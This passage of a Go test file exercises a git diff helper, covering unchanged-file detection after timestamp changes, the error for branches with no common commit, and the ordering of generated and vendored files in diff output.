	at := time.Now().Add(-time.Hour).Truncate(time.Second)
	set := func(names ...string) {
		for _, name := range names {
			must.Do(t, os.Chtimes(filepath.Join(p.dir, name), at, at))
		}
	}
	p.write("other.txt", "aaa\n")
	set("key.txt", "other.txt")
	p.commit()
	p.git("status")
	set(".git/index")
	base := strings.TrimSpace(p.git("rev-parse", "HEAD"))
	if got, err := p.since(changes.Options{Base: base}); err != nil || got.Diff != "" {
		t.Errorf("%v, %s", err, got.Diff)
	}
	p.write("other.txt", "bbb\n")
	set("other.txt")
	if got, err := p.since(changes.Options{Base: base}); err != nil || !strings.Contains(got.Diff, "+bbb") || strings.Contains(got.Diff, "key.txt") {
		t.Errorf("%v, %s", err, got.Diff)
	}
}

func TestSince_saysWhatIsWrong(t *testing.T) {
	p := newPlace(t)
	p.git("checkout", "-q", "--orphan", "other")
	p.write("README", "another one\n")
	p.commit()
	if _, err := p.since(changes.Options{}); err == nil || !strings.HasPrefix(err.Error(), "no commit that main and HEAD have in common") {
		t.Errorf("without a common commit: %v", err)
	}
}

// What others wrote, or a program, is shown last.
func TestSince_showsLastWhatIsNotWrittenHere(t *testing.T) {
	p := newPlace(t)
	const mark = "// Code generated by gen. DO NOT EDIT.\n"
	files := []string{"api/gen.go", "api/new.go", "lib/vendor/own.go", "sub/vendor/x.go", "sub/web.go", "third_party/y.c", "vendor/z.go", "zz.go"}
	p.onMain(func() {
		p.write("sub/go.mod", "module sub\n")
		for _, name := range files {
			p.write(name, map[string]string{"api/gen.go": mark}[name]+"one\n")
		}
	})
	for _, name := range files {
		p.write(name, map[string]string{"api/gen.go": mark, "api/new.go": mark}[name]+"two\n")
	}
	var got []string
	for _, s := range debate.DiffSections("", debate.ParseDiff(must.Get(p.since(changes.Options{}))(t).Diff), nil) {
		got = append(got, s.File)
	}
	if want := "api/new.go lib/vendor/own.go sub/web.go zz.go api/gen.go sub/vendor/x.go third_party/y.c vendor/z.go"; strings.Join(got, " ") != want {
		t.Errorf("shown: %q, want %q", got, want)
	}
}
